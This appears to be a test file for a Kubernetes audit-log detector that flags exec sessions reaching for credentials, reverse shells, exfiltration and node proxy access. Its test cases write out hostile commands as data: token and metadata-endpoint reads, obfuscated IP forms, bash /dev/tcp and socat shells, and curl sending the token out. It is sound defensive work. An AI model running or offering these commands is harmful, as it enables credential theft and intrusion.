// Detections of secrets and of sessions in containers: addresses as the API server reads them, near misses, odd shapes, a quiet hour.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { detect } from '../../src/audit-log/detect.ts'
import { type AuditEvent, readEvent } from '../../src/audit-log/event.ts'
import { type Example, example } from '../../src/audit-log/example.ts'
import { windowExample } from '../../src/audit-log/example-window.ts'
import { parametersOf, proxiedPath } from '../../src/audit-log/request-uri.ts'
import { withholdInEntry } from '../../src/audit-log/secrets.ts'
import { commandOf } from '../../src/audit-log/session.ts'
import { programsOf } from '../../src/audit-log/shell-words.ts'
import type { Settings } from '../../src/control.ts'
import { withholdShapes } from '../../src/redaction/secret-shapes.ts'
import { slot } from '../audit-log/account.ts'
import { detections } from '../audit-log/detections.ts'

const ids = ['17', '18', '19', '21', '22', '23', '24', '25', '26', '28'].map((id) => `DET-${id}`)
const own = detections.filter(({ id }) => ids.includes(id))

const found = (entries: readonly unknown[], settings: Record<string, Settings> = {}) =>
  detect(
    own,
    windowExample(slot, { messages: entries.map((one) => withholdInEntry(JSON.stringify(one), () => undefined)) }),
    { slot, rules: Object.fromEntries(Object.entries(settings).map(([id, set]) => [id, { settings: set }])) },
  )
const idsOf = (given: Example): string[] => found([example(given)]).map(({ detection }) => detection)
const reasonOf = (id: string, given: Example): string =>
  found([example(given)]).find(({ detection }) => detection === id)?.reason ?? ''

const pod = { resource: 'pods', namespace: 'shop', name: 'cart-0', subresource: 'exec', code: 101 }
const path = '/api/v1/namespaces/shop/pods/cart-0/exec'
const asked = (query: string, more: Partial<Example> = {}): Example => ({
  verb: 'create',
  ...pod,
  stage: 'ResponseStarted',
  requestURI: `${path}?${query}`,
  ...more,
})
/** As kubectl writes it: Go's url.Values, in which a blank is `+`. */
const run = (...words: string[]): Example =>
  asked(
    words
      .map(
        (word) =>
          `command=${encodeURIComponent(word)
            .replace(/[!'()*]/g, escaped)
            .replaceAll('%20', '+')}`,
      )
      .join('&')
      .concat('&container=app&stdout=true'),
  )
const escaped = (char: string): string => `%${char.charCodeAt(0).toString(16).toUpperCase()}`
const token = '/var/run/secrets/kubernetes.io/serviceaccount/token'
const tools = ['DET-24', 'DET-25']
const told = (given: Example): string[] => idsOf(given).filter((id) => tools.includes(id))

describe('the parameters of an address', () => {
  it.each<[string, Record<string, string[]>]>([
    ['command=sh&command=-c&command=a+b', { command: ['sh', '-c', 'a b'] }],
    ['command=%2fbin%2Fsh', { command: ['/bin/sh'] }],
    ['comm%61nd=id', { command: ['id'] }],
    ['command=a%252Fb', { command: ['a%2Fb'] }],
    ['command=%zz&command=id', { command: ['id'] }],
    ['command=%2', {}],
    ['command=a;b&tty=1', { tty: ['1'] }],
    ['command', { command: [''] }],
    ['a=b=c&&', { a: ['b=c'] }],
    ['command=%C3%A9', { command: ['é'] }],
    ['command=é', { command: ['é'] }],
    ['command=%FF', { command: ['\u{FFFD}'] }],
  ])('are what Go makes of ?%s', (query, expected) => {
    expect(Object.fromEntries(parametersOf(`/x?${query}`))).toEqual(expected)
  })

  it('are none without a question mark', () => {
    expect(parametersOf('/api/v1/pods&command=id').size).toBe(0)
  })

  it('hold all of what comes behind the first question mark', () => {
    expect(parametersOf('/x?command=a?b').get('command')).toEqual(['a?b'])
  })
})

describe('what is asked of the other end of a proxy', () => {
  it.each([
    ['/api/v1/nodes/a/proxy/pods', 'pods'],
    ['/api/v1/nodes/a:10250/proxy/run/x/y/z?cmd=id', 'run/x/y/z'],
    ['/api/v1/namespaces/a/services/https:b:443/proxy/x%2Fy', 'x/y'],
    ['/api/v1/nodes/a/proxy', ''],
    ['/api/v1/nodes/a/proxy/%zz', undefined],
    ['/api/v1/nodes/a/status', undefined],
    ['', undefined],
  ])('is read from %s', (uri, expected) => {
    expect(proxiedPath(uri)).toBe(expected)
  })
})

const eventOf = (entry: unknown): AuditEvent => {
  const event = readEvent(JSON.stringify(entry))
  if (!event.readable) throw new Error(event.faults.join('; '))
  return event
}

describe('the command of a session', () => {
  const of = (given: Example) => commandOf(eventOf(example(given)))

  it('is what the address says, whatever the object says beside it', () => {
    expect(of(asked('command=id', { requestObject: { command: ['ls'] } }))).toEqual(['id'])
  })

  it.each<[string, unknown, string[] | undefined]>([
    ['a list', { command: ['ls', '-l'] }, ['ls', '-l']],
    ['text', { command: 'ls -l' }, ['ls -l']],
    ['a list of anything', { command: ['ls', 7, null, {}] }, ['ls']],
    ['an object', { command: { 0: 'ls' } }, undefined],
    ['nothing', {}, undefined],
    ['an object that is a list', ['ls'], undefined],
  ])('is read from an object that names it as %s', (_, requestObject, expected) => {
    expect(of(asked('container=a', { requestObject }))).toEqual(expected)
  })

  it('is none of an attach, whatever stands in its address', () => {
    expect(of(asked('command=id', { subresource: 'attach' }))).toBeUndefined()
  })

  it('is read from what a kubelet is asked for, by its words', () => {
    const uri = '/api/v1/nodes/a/proxy/run/shop/cart-0/app?cmd=cat%20/x'
    const node: Example = { verb: 'create', resource: 'nodes', subresource: 'proxy', name: 'a', requestURI: uri }
    expect(of(node)).toEqual(['cat', '/x'])
    expect(of({ ...node, requestURI: uri.replace('/run/', '/pods/') })).toBeUndefined()
    expect(of({ ...node, resource: 'pods' })).toBeUndefined()
  })
})

describe('the programs that a command starts', () => {
  const names = (...argv: string[]): string[] => programsOf(argv).map(({ name }) => name)

  it.each<[string, string[]]>([
    ['a; b && c || d | e & f', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['"a b" c', ['a b']],
    ["a 'b; c'", ['a']],
    ['a "b; c"', ['a']],
    ['a b\\;c', ['a']],
    ['X=1 Y=2 a', ['a']],
    ['if a; then b; fi', ['a', 'b']],
    ['echo "$(a b)"', ['echo', 'a']],
    ['x=$(a)', ['a']],
    ['echo `a`', ['echo', 'a']],
    ['c\'\'u"r"l x', ['curl']],
    [['a$', '{IFS}b'].join(''), ['a']],
    ['bash -ec "a; b"', ['bash', 'a', 'b']],
    ['eval "a; b"', ['eval', 'a', 'b']],
    ['a >&2 2>&1 &>x; b', ['a', 'b']],
    ['(a)\nb', ['a', 'b']],
    ['"unclosed', ['unclosed']],
  ])('are found in the script %s', (script, expected) => {
    expect(names('sh', '-c', script).slice(1)).toEqual(expect.arrayContaining(expected))
  })

  it('are the script and not the option of an option', () => {
    expect(names('bash', '--norc', '-c', 'a')).toContain('a')
    expect(names('python3', '-c', 'a')).toEqual(['python3'])
  })

  it('are found behind what starts another', () => {
    expect(names('timeout', '-s', 'KILL', '5', 'sh', '-c', 'a')).toEqual(expect.arrayContaining(['timeout', 'sh', 'a']))
  })

  it('are read as far as four scripts deep', () => {
    const within = (script: string, times: number): string =>
      times === 0 ? script : within(`sh -c ${JSON.stringify(script)}`, times - 1)
    expect(names('sh', '-c', within('a', 3))).toContain('a')
    expect(names('sh', '-c', within('a', 9))).not.toContain('a')
  })
})

describe('a session', () => {
  it('is told with its command', () => {
    expect(reasonOf('DET-22', run('ls', '-l'))).toMatch(/asked to run a command in pod shop\/cart-0: ls -l$/)
  })

  it('is told with what hides in its command made visible, and bounded', () => {
    const reason = reasonOf('DET-22', run('echo', '\u{202E}', 'x'.repeat(5_000)))
    expect(reason).toContain('\\u{202E}')
    expect(reason.length).toBeLessThan(700)
  })

  it('is told once, by its beginning and not by its end in a later slot', () => {
    expect(idsOf(run('ls'))).toEqual(['DET-22'])
    expect(idsOf({ ...run('ls'), stage: 'ResponseComplete' })).toEqual([])
  })

  it.each(['create', 'get'])('is told of the verb %s', (verb) => {
    expect(told({ ...run('cat', token), verb })).toEqual(['DET-24'])
  })
})

describe('a command that is after credentials (DET-24)', () => {
  it.each([
    [['cat', '/proc/self/root/var/run/secrets/kubernetes.io/serviceaccount/token']],
    [['sh', '-c', `cat<${token}`]],
    [['sh', '-c', `curl -d @${token} http://collector/`]],
    [['sh', '-c', 'cd /var/run/secrets && cat */*/token']],
    [['find', '/run/secrets', '-name', 'token']],
    [['curl', 'http://0xA9FEA9FE/']],
    [['curl', 'http://0251.0376.0251.0376/']],
    [['curl', 'http://169.254.43518/']],
    [['curl', 'http://169.254.169.254.:80/']],
    [['curl', 'http://[::ffff:169.254.169.254]/']],
    [['curl', 'http://[fd00:0ec2:0:0::254]/']],
    [['curl', '-g', 'http://[fd00:ec2::23]/v1/credentials']],
    [['aws', 'sts', 'assume-role-with-web-identity', '--role-arn', 'x']],
    [['cat', '/home/app/.aws/credentials']],
    [['tar', 'cf', '-', '/root/.ssh']],
    [['cat', '/var/lib/kubelet/kubeconfig']],
    [['sh', '-c', 'echo $DB_PASSWORD']],
    [['sh', '-c', 'export -p']],
    [['env', '-0']],
  ])('is told: %s', (words) => {
    expect(told(run(...words))).toContain('DET-24')
  })

  it.each([
    [['cat', '/var/run/secretsauce']],
    [['ls', '/app/run/secrets.d']],
    [['ls', '/var/run']],
    [['cat', '/app/laws']],
    [['ls', '/app/my.awsome']],
    [['curl', 'http://10.169.254.169/']],
    [['curl', 'http://169.254.169.25/']],
    [['curl', 'http://2852039167/']],
    [['printenv', 'PATH']],
    [['env', 'A=b', 'sh']],
    [['sh', '-c', 'echo $HOME']],
    [['sh', '-c', 'set -euo pipefail; ls']],
    [['cat', '/etc/shadowsocks.json']],
    [['my-env']],
    [['cat', '/app/environ']],
  ])('is not told for a name alone: %s', (words) => {
    expect(told(run(...words))).not.toContain('DET-24')
  })

  it('is told behind a name that sounds like a secret: what is withheld ends where the word does', () => {
    expect(told(run('sh', '-c', `TOKEN=$(cat ${token})`))).toEqual(['DET-24'])
    expect(told(run('sh', '-c', `TOKEN=x cat ${token}`))).toEqual(['DET-24'])
    expect(told(run('sh', '-c', `TOKEN="$(cat ${token})"`))).toEqual(['DET-24'])
    expect(told(run('sh', '-c', `curl -H "Authorization: Bearer $(cat ${token})" api`))).toEqual(['DET-24'])
  })

  it('is told as not judged where a hand-written address has a part withheld', () => {
    expect(reasonOf('DET-24', asked(`command=sh&command=-c&command=TOKEN=x+cat+${token}`))).toMatch(/cannot be judged/)
  })

  it('is not told of a password that a client passed as it should', () => {
    expect(told(run('mysql', '--password=hunter2', '-e', 'select 1'))).toEqual([])
  })
})

describe('what is withheld of a command', () => {
  it.each([
    ['PGPASSWORD%3Dhunter2+psql', 'PGPASSWORD%3D[redacted]+psql'],
    ['PGPASSWORD%3Dhunter2%20psql', 'PGPASSWORD%3D[redacted]%20psql'],
    ['PGPASSWORD%3D%22a+b%22+psql', 'PGPASSWORD%3D[redacted]%22+psql'],
    ['PGPASSWORD%3Dhunter2%3Bcat+x', 'PGPASSWORD%3D[redacted]%3Bcat+x'],
    ['Bearer+abcdefghijkl%22+http', 'Bearer+[redacted]%22+http'],
    ['Bearer%20aGVsbG8%2Bd29ybGQ%3D&x', 'Bearer%20[redacted]&x'],
    ['TOKEN%3D%24%28cat+x%29', 'TOKEN%3D%24%28cat+x%29'],
    ['TOKEN=$(cat x)', 'TOKEN=$(cat x)'],
    ['TOKEN%3D%60cat+x%60', 'TOKEN%3D%60cat+x%60'],
  ])('ends with its word: %s', (text, left) => {
    expect(withholdShapes(text)).toBe(left)
    expect(withholdShapes(left)).toBe(left)
  })
})

describe('a command that opens, carries or leaves (DET-25)', () => {
  it.each([
    [['bash', '-c', 'exec 5<>/dev/tcp/198.51.100.9/80']],
    [['sh', '-c', 'sh -i <&3 >&3 2>&3']],
    [['ncat', '--exec', '/bin/sh', 'host', '1']],
    [['busybox', 'nc', 'host', '1', '-e', 'sh']],
    [['socat', 'exec:bash,pty', 'tcp:host:1']],
    [['perl', '-e', 'use Socket;socket(S,2,1,6);exec("/bin/sh -i")']],
    [['php', '-r', '$s=fsockopen("h",1);exec("sh <&3");']],
    [['awk', 'BEGIN{s="/inet/tcp/0/h/1";while(1){"sh"|getline}}']],
    [['sh', '-c', 'openssl s_client -connect h:1 | sh']],
    [['sh', '-c', 'base64 -d x | sh -s -- a']],
    [['sh', '-c', 'curl localhost/x | python3 -']],
    [['bash', '-c', '$(echo Y3VybA== | base64 -d)']],
    [['sh', '-c', 'eval "$(curl localhost/x)"']],
    [['wget', 'files.example.com']],
    [['curl', 'https://user:pw@files.example.com/x']],
    [['curl', 'http://3405803785/x']],
    [['curl', 'http://$HOST/x']],
    [['sh', '-c', 'tar c /data']],
    [['tar', '-C', '/data', '-cf', '-', '.']],
    [['tar', '--create', '--file=-', '/data']],
    [['tar', 'xzf-']],
    [['sh', '-c', 'cat x | nc host 1']],
    [['nc', '-lvp', '4444']],
    [['aws', 's3', 'cp', 'x', 's3://bucket']],
    [['scp', 'x', 'host:']],
    [['apk', 'add', 'curl']],
    [['nsenter', '--target', '1']],
    [['cat', '/proc/1/root/etc/hostname']],
    [['curl', '--unix-socket', '/run/docker.sock', 'http://localhost/']],
    [['crictl', 'ps']],
  ])('is told: %s', (words) => {
    expect(told(run(...words))).toContain('DET-25')
  })

  it.each([
    [['bash-completion']],
    [['cat', 'nc', 'curl', 'tar']],
    [['sh', '-c', 'echo "curl http://files.example.com"']],
    [['bash', '-c', 'echo > /dev/tcp/localhost/8080']],
    [['curl', '-fsS', '-m', '0.5', 'http://127.0.0.1:8080/healthz']],
    [['curl', 'http://cart:8080/']],
    [['curl', 'http://cart.shop.svc/']],
    [['curl', 'http://10.1.2.3/', '-H', 'Host: shop.example.com']],
    [['curl', '-o', 'out.json', 'http://cart/']],
    [['nc', '-z', 'db', '5432']],
    [['telnet', 'db', '5432']],
    [['tar', 'tzf', '-']],
    [['tar', 'xzf', 'a.tgz', '-C', '/x']],
    [['sh', '-c', 'curl -s localhost/x | python3 -m json.tool']],
    [['sh', '-c', 'curl -s localhost/x | awk "{print}"']],
    [['python3', '-c', 'import socket; print(socket.gethostname())']],
    [['npm', 'run', 'start']],
    [['cat', '/var/run/docker.socket']],
    [['cat', '/proc/11/root']],
    [['docker-entrypoint.sh']],
    [['sh', '-c', 'x=$(echo aGk= | base64 -d); echo "$x"']],
  ])('is not told: %s', (words) => {
    expect(told(run(...words))).toEqual([])
  })

  it('names the host, bounded', () => {
    expect(reasonOf('DET-25', run('curl', 'https://files.example.com/x'))).toMatch(/files\.example\.com/)
    expect(reasonOf('DET-25', run('curl', `https://${'a'.repeat(250)}.example.com/x`))).toMatch(/more characters/)
  })

  it('is a shell alone where the setting says so', () => {
    const shells = { 'DET-25': { shells: true } }
    expect(found([example(run('/bin/bash'))], shells).map(({ detection }) => detection)).toEqual(['DET-22', 'DET-25'])
    expect(found([example(run('/bin/bashful'))], shells).map(({ detection }) => detection)).toEqual(['DET-22'])
  })
})

describe.each([
  ['substitutions', (most: number) => ['sh', '-c', '$('.repeat(most / 2)]],
  ['starters', (most: number) => Array<string>(most / 4).fill('env')],
  ['quotes', (most: number) => ['sh', '-c', '"`'.repeat(most / 2)]],
  ['scripts', (most: number) => ['sh', '-c', 'sh -c "'.repeat(most / 7)]],
  ['slashes', (most: number) => ['cat', '/proc/'.repeat(most / 6)]],
  ['colons', (most: number) => ['curl', 'a:'.repeat(most / 2)]],
])('a command of nothing but %s', (_, of) => {
  it('is read to its end', () => {
    expect(told(run(...of(60_000)))).toEqual([])
  })

  it('is told for its length where it has more of them than a command has', () => {
    expect(reasonOf('DET-24', run(...of(70_000)))).toMatch(/that is too long to be judged: /)
    expect(reasonOf('DET-25', run(...of(70_000)))).toMatch(/that is too long to be judged: /)
  })
})

describe('secrets', () => {
  const all = { resource: 'secrets', level: 'Metadata' }
  const cart = { user: 'system:serviceaccount:shop:cart', groups: ['system:serviceaccounts'] }

  it('are told by the selectors of a list', () => {
    const requestURI = '/api/v1/secrets?fieldSelector=type%3Dkubernetes.io%2Ftls&labelSelector=a%3Db'
    expect(reasonOf('DET-18', { verb: 'list', ...all, requestURI })).toMatch(
      /the secrets of all namespaces, selected by a=b and type=kubernetes\.io\/tls$/,
    )
  })

  it('are told of whom a tool acts as, and not of the tool by itself', () => {
    const one = { verb: 'get', ...all, namespace: 'shop', name: 'db', ...cart }
    expect(idsOf(one)).toEqual([])
    expect(reasonOf('DET-17', { ...one, impersonatedUser: { username: 'bob' } })).toMatch(/asked as bob to get secret/)
    expect(idsOf({ ...one, impersonatedUser: { username: 'system:serviceaccount:shop:web' } })).toEqual([])
  })

  it('of one name in all namespaces are told as such', () => {
    const requestURI = '/api/v1/secrets?fieldSelector=metadata.name%3Ddb'
    expect(reasonOf('DET-18', { verb: 'list', ...all, name: 'db', requestURI })).toMatch(/secret db of all namespaces/)
  })

  it.each([
    ['owner%3Dhelm', []],
    ['name%3Dcart%2Cowner%3Dhelm', []],
    ['owner%21%3Dhelm', ['DET-17', 'DET-18']],
    ['owner%20in%20%28helm%2Cx%29', ['DET-17', 'DET-18']],
    ['owner%3Dhelmet', ['DET-17', 'DET-18']],
  ])('that the label %s selects are told unless they are releases of Helm', (selector, expected) => {
    expect(idsOf({ verb: 'list', ...all, requestURI: `/api/v1/secrets?labelSelector=${selector}` })).toEqual(expected)
  })

  it('are told once of a person who reads them page by page and watches on', () => {
    const page = (query: string, verb = 'list', more: Partial<Example> = {}) =>
      example({ verb, ...all, requestURI: `/api/v1/secrets?${query}`, ...more })
    const watch = page('resourceVersion=7&watch=true', 'watch', { stage: 'ResponseStarted' })
    expect(found([page('limit=500'), watch]).map(({ detection }) => detection)).toEqual(['DET-17', 'DET-17', 'DET-18'])
  })
})

describe('a proxy (DET-28)', () => {
  const node = { verb: 'get', resource: 'nodes', subresource: 'proxy', name: 'a' }
  const monitoring = { user: 'system:serviceaccount:monitoring:prometheus' }

  it.each([
    '/api/v1/nodes/a/proxy/metrics/',
    '/api/v1/nodes/a/proxy//pods',
    '/api/v1/nodes/a/proxy/metrics/./../run',
    '/api/v1/nodes/a/proxy/%6Detrics',
    '/api/v1/nodes/a/proxy/logs/proxy/metrics?x',
    '/api/v1/nodes/a/proxy/pods/proxy/metrics',
    '',
  ])('is told of a workload for %s', (requestURI) => {
    expect(idsOf({ ...node, ...monitoring, requestURI })).toEqual(['DET-28'])
  })

  it('through which a command is run is told by what it runs too', () => {
    const requestURI = `/api/v1/nodes/a/proxy/exec/shop/cart-0/app?command=cat&command=${token}&output=1`
    expect(idsOf({ ...node, requestURI })).toEqual(['DET-24', 'DET-28'])
  })
})

it('tells nothing of a quiet hour: kubelets, controllers, add-ons, operators, Helm by a pipeline', () => {
  const sa = (name: string) => ({ user: `system:serviceaccount:${name}`, groups: ['system:serviceaccounts'] })
  const secrets = { resource: 'secrets', level: 'Metadata' }
  const watch = { verb: 'watch', ...secrets, stage: 'ResponseStarted' as const }
  const renewed = '/api/v1/secrets?allowWatchBookmarks=true&resourceVersion=81&watch=true'
  const release = { ...secrets, namespace: 'shop', name: 'sh.helm.release.v1.cart.v7' }
  const entries: Example[] = [
    { verb: 'list', ...secrets, user: 'system:kube-controller-manager' },
    { ...watch, requestURI: renewed, ...sa('cert-manager:cert-manager') },
    { ...watch, requestURI: renewed, ...sa('argocd:argocd-application-controller') },
    { ...watch, requestURI: renewed, ...sa('ingress-nginx:ingress-nginx') },
    { verb: 'get', ...secrets, namespace: 'shop', name: 'tls', ...sa('cert-manager:cert-manager') },
    ...Array.from({ length: 40 }, (_, at) => ({
      verb: 'get',
      ...secrets,
      namespace: 'shop',
      name: `mounted-${at}`,
      user: 'system:node:ip-10-0-0-1',
    })),
    { verb: 'get', ...release },
    { verb: 'create', ...release, code: 201 },
    { verb: 'list', ...secrets, namespace: 'shop', requestURI: '/x?labelSelector=name%3Dcart%2Cowner%3Dhelm' },
    { verb: 'deletecollection', ...secrets, namespace: 'old', ...sa('kube-system:namespace-controller') },
    ...['metrics/cadvisor', 'metrics/resource', 'stats/summary'].map((scraped) => ({
      verb: 'get',
      resource: 'nodes',
      subresource: 'proxy',
      name: 'a',
      requestURI: `/api/v1/nodes/a/proxy/${scraped}`,
      ...sa('kube-system:metrics-server'),
    })),
    { verb: 'get', resource: 'pods', subresource: 'log', namespace: 'shop', name: 'cart-0' },
  ]
  expect(found(entries.map(example))).toEqual([])
})

it('judges whatever a request holds without stumbling', () => {
  const any = fc.oneof(fc.string(), fc.json(), fc.constantFrom('%', '+', ';', '&command=', '\u0000', '$(', '"'))
  fc.assert(
    fc.property(
      fc.constantFrom('exec', 'attach', 'proxy', 'portforward', ''),
      fc.constantFrom('pods', 'nodes', 'services', 'secrets'),
      fc.array(any),
      fc.jsonValue(),
      (subresource, resource, parts, requestObject) => {
        const requestURI = `${path}?command=${parts.join('&command=')}`
        const given = { ...asked(''), resource, subresource, requestURI, requestObject }
        const stumbled = found([example(given)]).filter(({ reason }) => reason.startsWith('could not be judged'))
        expect(stumbled).toEqual([])
      },
    ),
    { numRuns: 300 },
  )
})
